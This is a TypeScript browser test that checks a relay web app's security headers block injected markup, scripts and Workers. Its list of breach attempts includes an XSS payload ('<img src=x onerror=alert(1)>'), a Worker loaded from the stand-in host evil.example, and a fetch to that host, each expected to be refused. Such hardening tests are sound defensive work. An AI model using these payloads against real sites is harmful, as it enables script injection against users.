/** HARDENING attack 6 on the web: the relay's headers let no text become markup or a script. */
import { expect, test } from './fixture.ts';

test('text becomes neither markup nor a script, a Worker only of the app’s own', async ({ relay, meet }) => {
  const { page } = await meet('Hanaberry');
  await page.goto(relay.url);
  await expect(page.getByRole('textbox', { name: 'Name' })).toBeVisible();
  const breaches: readonly (readonly [string, () => unknown])[] = [
    ['text as markup', () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')],
    ['text as a script', () => Object.assign(document.createElement('script'), { text: 'alert(1)' })],
    ['text as a document', () => new DOMParser().parseFromString('<p>x</p>', 'text/html')],
    ['a script’s address', () => document.createElement('script').setAttribute('src', '/assets/other.js')],
    ['a Worker of text', () => new Worker('data:text/javascript,1')],
    ['a Worker from elsewhere', () => new Worker('https://evil.example/assets/worker-x.js')],
    ['a service worker', () => navigator.serviceWorker.register('/other.js')],
    [
      'a second policy',
      () => window.trustedTypes?.createPolicy('default', { createScriptURL: (url) => url }),
    ],
    ['a picture from elsewhere', () => fetch('https://evil.example/')],
  ];
  for (const [what, breach] of breaches) {
    const outcome = await page.evaluate(breach).then(
      () => 'done',
      () => 'refused',
    );
    expect.soft(outcome, what).toBe('refused');
  }
});
